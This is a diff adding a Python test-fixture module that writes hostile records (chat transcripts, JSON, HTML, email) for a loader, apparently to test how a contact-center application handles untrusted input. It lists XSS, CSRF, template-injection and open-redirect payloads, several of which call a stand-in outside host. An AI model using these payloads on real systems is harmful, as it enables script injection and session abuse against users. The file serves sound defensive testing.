@@ -1,0 +1,159 @@
+"""Records that carry a payload in every place where a stranger can write, as a dump for `load_json`; and
+payloads of our own. Each tries one of: run a script, reach another server, move the reader elsewhere."""
+
+import base64
+import json
+import re
+from collections.abc import Sequence
+from html import escape
+from pathlib import Path
+
+CORPUS = Path(__file__).resolve().parents[3] / "shared/corpora/html/dompurify-payloads.json"
+MARK = re.compile(r"[a-z]+\d{4}z")
+ELSEWHERE = "http://elsewhere.example"
+CUSTOMER, SERVICE, CHAT, JSON = "HOSTILECUSTOMER", "HOSTILESERVICE", "HOSTILECHAT", "HOSTILEJSON"
+TEXTS = ["subject", "media_type", "type", "parent_id", "thread_id", "start_date", "outcome", "phone_number"]
+TEXTS += ["from", "to", "reply_to", "external_id", "x_unknown"]
+NO_XML = re.compile("[^\t\n\r\x20-\ud7ff\ue000-\ufffd]")
+
+PAYLOADS = (
+    "<script>alert(1)</script>",
+    "</script></style></title></textarea></pre><script>alert(1)</script>",
+    "\"'><img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<details open ontoggle=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<a href=javascript:alert(1) id=go autofocus>go</a>",
+    "<a href='java&#10;script:alert(1)'>go</a>",
+    "javascript:alert(1)",
+    'https://elsewhere.example/"onmouseover=alert(1)//',
+    f"<iframe src={ELSEWHERE}/frame></iframe>",
+    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
+    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/refresh'>",
+    f"<base href={ELSEWHERE}/><img src=base.png>",
+    f"<link rel=stylesheet href={ELSEWHERE}/css><link rel=preconnect href={ELSEWHERE}>",
+    f"<link rel=dns-prefetch href={ELSEWHERE}><link rel=prefetch href={ELSEWHERE}/prefetch>",
+    f"<style>@import '{ELSEWHERE}/import';body{{background:url({ELSEWHERE}/style)}}</style>",
+    f"<p style='background-image:url({ELSEWHERE}/inline);position:fixed;inset:0'>over</p>",
+    f"<img src={ELSEWHERE}/pixel><img srcset='{ELSEWHERE}/set 1x'><table background={ELSEWHERE}/table>",
+    f"<video poster={ELSEWHERE}/poster src={ELSEWHERE}/film autoplay></video>",
+    f"<audio src={ELSEWHERE}/sound autoplay><source src={ELSEWHERE}/source>",
+    f"<object data={ELSEWHERE}/object></object><embed src={ELSEWHERE}/embed>",
+    f"<form action={ELSEWHERE}/form><button autofocus>send</button></form>",
+    "<form id=search action=/sign-out method=post><img src=/sign-out><input name=q>",
+    "<img src=/customers/HOSTILECUSTOMER><img src=//elsewhere.example/relative>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "{{7*7}}{% raw %}${7*7}<%= 7*7 %>#{7*7}",
+    "<div hx-get=/sign-out hx-trigger=load data-row=x data-copy=x>htmx</div>",
+    "<img name=body><img id=content><form name=querySelector></form>",
+    "\u202egpj.exe\u202c \u0000 \u2028 \ufeff <b>&lt;&amp;</b>",
+    f"<a href='{ELSEWHERE}/\"><script>alert(1)</script>' title=\"'><script>alert(1)\">www.bank.example</a>",
+    f"<a href='{ELSEWHERE}/&quot; onfocus=alert(1) autofocus x=&quot;'>https://bank.example</a>",
+    "<a href='mailto:&quot;&gt;&lt;img src=x onerror=alert(1)&gt;@elsewhere.example'>a@bank.example</a>",
+    "<a href='https://\"}*{background:url(//elsewhere.example)}/' data-host=\"');alert(1)\">bank.example</a>",
+    f"?next={ELSEWHERE}/next#//elsewhere.example",
+)
+
+
+def corpus() -> list[str]:
+    """The payloads of others; none where the corpora are not."""
+    if not CORPUS.is_file():
+        return []
+    return [each["payload"] for each in json.loads(CORPUS.read_text(encoding="utf-8"))]
+
+
+def mark(place: str, number: int) -> str:
+    """What stands before this payload in this place, so that one can see that it came there."""
+    return f"{place}{number:04}z"
+
+
+def html(number: int) -> str:
+    """The ID of the record whose contents are this payload, as text, as HTML and as bytes."""
+    return f"HOSTILEH{number:08}"
+
+
+def mail(number: int) -> str:
+    """The ID of the record whose content is a mail with this payload in its headers, HTML and file names."""
+    return f"HOSTILEM{number:08}"
+
+
+def dump(folder: Path, payloads: Sequence[str]) -> int:
+    """Writes the records, and their contents beside them; gives the number of records."""
+    records = [
+        _record(folder, CHAT, payloads, "text/xml", {"structured_text": _chat(payloads)}),
+        _record(folder, JSON, payloads, "application/json", {"structured_text": _json(payloads)}),
+    ]
+    for number, payload in enumerate(payloads):
+        data = payload.encode("utf-8", "replace")
+        contents = {"plain_text": data, "structured_text": data, "binary_content": data}
+        records.append(_record(folder, html(number), [payload], "text/html", contents))
+        records.append(
+            _record(folder, mail(number), [payload], "message/rfc822", {"structured_text": _mail(payload)})
+        )
+    (folder / "hostile.ndjson").write_text("\n".join(map(json.dumps, records)), encoding="utf-8")
+    return len(records)
+
+
+def _record(
+    folder: Path, interaction_id: str, payloads: Sequence[str], media_type: str, contents: dict[str, bytes]
+) -> dict[str, object]:
+    """A record with a payload in each attribute that is a text, and all of them as attached data."""
+    _write(folder / interaction_id, contents)
+    payload = payloads[0]
+    known = {"FirstName": payload, "RTargetAgentSelected": payload, "Deep": {payload: [payload]}}
+    return dict.fromkeys(TEXTS, payload) | {
+        "interaction_id": interaction_id,
+        "customer_id": CUSTOMER,
+        "service_id": SERVICE,
+        "entity_type": 2,
+        "status": 3,
+        "structured_text_mime": media_type,
+        "udata": known | {payload: payload for payload in payloads},
+    }
+
+
+def _write(folder: Path, contents: dict[str, bytes]) -> None:
+    folder.mkdir()
+    for kind, data in contents.items():
+        (folder / kind).write_bytes(data)
+
+
+def _json(payloads: Sequence[str]) -> bytes:
+    return json.dumps({payload: [payload] for payload in payloads}).encode()
+
+
+def _chat(payloads: Sequence[str]) -> bytes:
+    """Each payload as a nick, an ID, a message, a notice and a reason."""
+    lines = []
+    for number, payload in enumerate(payloads):
+        who, text = f'userId="{number}" timeShift="{number}"', escape(NO_XML.sub(" ", payload), quote=True)
+        lines.append(
+            f'<newParty {who} visibility="ALL" eventId="{4 * number}">'
+            f'<userInfo personId="{text}" userNick="{text}" userType="CLIENT"/></newParty>'
+            f'<message {who} visibility="ALL" eventId="{4 * number + 1}"><msgText>{text}</msgText></message>'
+            f'<notice {who} visibility="ALL" eventId="{4 * number + 2}">'
+            f'<noticeText noticeType="PUSH_URL">{text}</noticeText></notice>'
+            f'<partyLeft {who} visibility="ALL" eventId="{4 * number + 3}" askerId="{text}">'
+            f"<reason>{text}</reason></partyLeft>"
+        )
+    head = '<chatTranscript startAt="2026-03-02T09:33:10Z" sessionId="1">'
+    return f"{head}{''.join(lines)}</chatTranscript>".encode("utf-8", "replace")
+
+
+def _mail(payload: str) -> bytes:
+    line = " ".join(payload.replace("\x00", " ").splitlines())
+    quoted = line.replace("\\", "\\\\").replace('"', '\\"')
+    body = base64.encodebytes(payload.encode("utf-8", "replace")).decode()
+    return (
+        f'From: "{quoted}" <a@example.com>\r\nTo: {line}\r\nSubject: {line}\r\n'
+        f"Date: {line}\r\nX-Own: {line}\r\n"
+        'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="b"\r\n\r\n'
+        "--b\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
+        f"{body}\r\n"
+        f'--b\r\nContent-Type: text/html; name="{quoted}"\r\nContent-Transfer-Encoding: base64\r\n'
+        f'Content-Disposition: attachment; filename="{quoted}"\r\n\r\n{body}\r\n'
+        f'--b\r\nContent-Type: image/svg+xml\r\nContent-Disposition: inline; filename="{quoted}.svg"\r\n\r\n'
+        f"{line}\r\n--b--\r\n"
+    ).encode("utf-8", "replace")
